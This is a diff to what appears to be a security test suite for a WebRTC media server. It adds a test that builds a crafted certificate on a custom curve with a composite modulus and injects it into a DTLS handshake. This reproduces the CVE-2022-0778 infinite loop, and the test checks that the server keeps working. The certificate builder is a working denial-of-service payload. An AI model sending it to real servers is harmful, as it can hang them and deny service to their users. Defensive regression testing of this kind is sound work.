@@ -246,6 +246,73 @@ def fingerprints_of_no_use(server, call):
             raise AssertionError(f"taken: {other}")
 
 
+def der(tag, *parts):
+    body = b"".join(parts)
+    size = len(body)
+    return bytes([tag]) + (bytes([size]) if size < 128 else bytes([0x82]) + struct.pack(">H", size)) + body
+
+
+def integer(n):
+    return der(0x02, n.to_bytes(n.bit_length() // 8 + 1, "big"))
+
+
+def looping_certificate():
+    """
+    Its key is on a curve of its own, y² = x³ + 23 x + 410 modulo 697, which is 17 · 41, and its points are compressed: to find y of x = 8 is to take the
+    root of 409, which the algorithm of Tonelli and Shanks never ends to look for when the modulus is no prime (CVE-2022-0778).
+    """
+    def oid(octets):
+        return der(0x06, bytes.fromhex(octets))
+
+    def sequence(*parts):
+        return der(0x30, *parts)
+    modulus, size = 697, 2
+    point = b"\x02" + (8).to_bytes(size, "big")
+    curve = sequence(*(der(0x04, n.to_bytes(size, "big")) for n in (23, 410)))
+    field = sequence(oid("2a8648ce3d0101"), integer(modulus))  # prime-field
+    key = sequence(sequence(oid("2a8648ce3d0201"), sequence(integer(1), field, curve, der(0x04, point), integer(701))),  # id-ecPublicKey
+                   der(0x03, b"\0", point))
+    signed_with = sequence(oid("2a8648ce3d040302"))  # ecdsa-with-SHA256
+    name = sequence(der(0x31, sequence(oid("550403"), der(0x0c, b"mallory"))))
+    times = sequence(*(der(0x17, t) for t in (b"260101000000Z", b"360101000000Z")))
+    tbs = sequence(der(0xa0, integer(2)), integer(1), signed_with, name, times, name, key)
+    return sequence(tbs, signed_with, der(0x03, b"\0", sequence(integer(1), integer(1))))
+
+
+class OtherCertificate(Dtls):
+    """Says in its handshake that this is its certificate."""
+    other = None
+
+    def flush(self):
+        return [self.replace(datagram) for datagram in super().flush()]
+
+    def replace(self, datagram):
+        out = b""
+        while datagram:
+            size = 13 + struct.unpack(">H", datagram[11:13])[0]
+            record, datagram = datagram[:size], datagram[size:]
+            if record[0] == 22 and record[3:5] == b"\0\0" and record[13] == 11:  # a handshake message in the clear, Certificate (RFC 5246 section 7.4.6)
+                chain = len(self.other).to_bytes(3, "big") + self.other
+                body = len(chain).to_bytes(3, "big") + chain
+                size = len(body).to_bytes(3, "big")
+                message = b"\x0b" + size + record[17:19] + bytes(3) + size + body
+                record = record[:11] + struct.pack(">H", len(message)) + message
+                self.replaced = True
+            out += record
+        return out
+
+
+def certificate_that_loops(server, call):
+    """Reading it takes no time: one who never finishes to would hold up all on its worker."""
+    for path in ("/whip/call/mallory", "/whep/call/alice"):
+        p = Peer(server, path, profile=b"SRTP_AEAD_AES_128_GCM", start=False)
+        p.dtls = OtherCertificate(p.profile, *certificate())
+        p.dtls.other, p.dtls.replaced = looping_certificate(), False
+        p.start()
+        fails_to_connect(server, call, p, path)
+        assert p.dtls.replaced
+
+
 def media_in_the_clear(server, call):
     """After the handshake, from the true address: nothing that was not sealed is taken for media."""
     with Intruder(server, "call") as p:
@@ -522,7 +589,7 @@ def has_pli(packet):
 ATTACKS = [
     strangers_speak_nothing_but_stun, client_hello_comes_first, client_hello_on_a_running_association,
     rtp_from_a_foreign_address, checks_cannot_be_forged, captured_checks, checks_of_nobody, stun_flood, replays, forged_rtp,
-    forged_rtcp, not_even_rtp, no_common_profile, certificate_of_another, fingerprints_of_no_use, media_in_the_clear, wrong_ssrc,
+    forged_rtcp, not_even_rtp, no_common_profile, certificate_of_another, certificate_that_loops, fingerprints_of_no_use, media_in_the_clear, wrong_ssrc,
     ssrc_of_another, ssrc_exhaustion, malformed_rtp, late_packets, malformed_rtcp, feedback_storm, one_packet_again_and_again,
     key_frames_for_many, candidates_are_no_addresses,
 ]
